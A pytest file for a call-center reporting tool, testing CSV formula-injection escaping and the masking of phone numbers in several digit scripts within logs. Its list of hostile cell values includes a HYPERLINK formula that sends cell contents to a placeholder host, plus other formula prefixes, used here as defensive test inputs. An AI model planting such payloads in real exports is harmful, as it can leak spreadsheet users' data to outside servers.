"""Small hardenings of issue 15: CSV formula cells, log masking of any digits but not sizes."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from callcenter.kpis import Tally, Thresholds
from callcenter.logs import mask_number
from callcenter.report_format import safe_cell, to_csv
from callcenter.reports import Report, ReportQuery

HOSTILE = ['+HYPERLINK("http://x/?"&A1,"x")', "=1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(name: str) -> None:
    r = Report(ReportQuery(date(2024, 1, 1), date(2024, 1, 31), by="agent"), Thresholds())
    r.total = Tally(calls=2)
    r.rows = {name: Tally(calls=2)}
    rows = list(csv.reader(io.StringIO(to_csv(r)), strict=True))
    assert rows[1][0] == "'" + name
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert all(not cell.startswith(starts) for row in rows for cell in row)


def test_numbers_and_plain_text_are_left_as_they_are() -> None:
    assert safe_cell(-3.5) == -3.5 and safe_cell(0) == 0
    assert safe_cell("Zeynep Kaya") == "Zeynep Kaya" and safe_cell("") == ""


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("٠٥٣٢١٢٣٤٥٦٧", "٠٥٣٢***٤٥٦٧"),  # Arabic-Indic digits
        ("arayan ۰۵۳۲۱۲۳۴۵۶۷", "arayan ۰۵۳۲***۴۵۶۷"),  # Persian digits
        ("０５３２１２３４５６７", "０５３２***４５６７"),  # full-width digits
        ("05321234567", "0532***4567"),
    ],
)
def test_numbers_in_any_script_are_masked(text: str, masked: str) -> None:
    assert mask_number(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "AMI line of 52428800 bytes dropped",
        "body exceeds 104857600 B",
        "limit: 1048576",
        "bytes=10485760",
        "size=2097152 read",
        "spill file at 12582912 bytes",
    ],
)
def test_byte_counts_are_not_masked(text: str) -> None:
    assert mask_number(text) == text
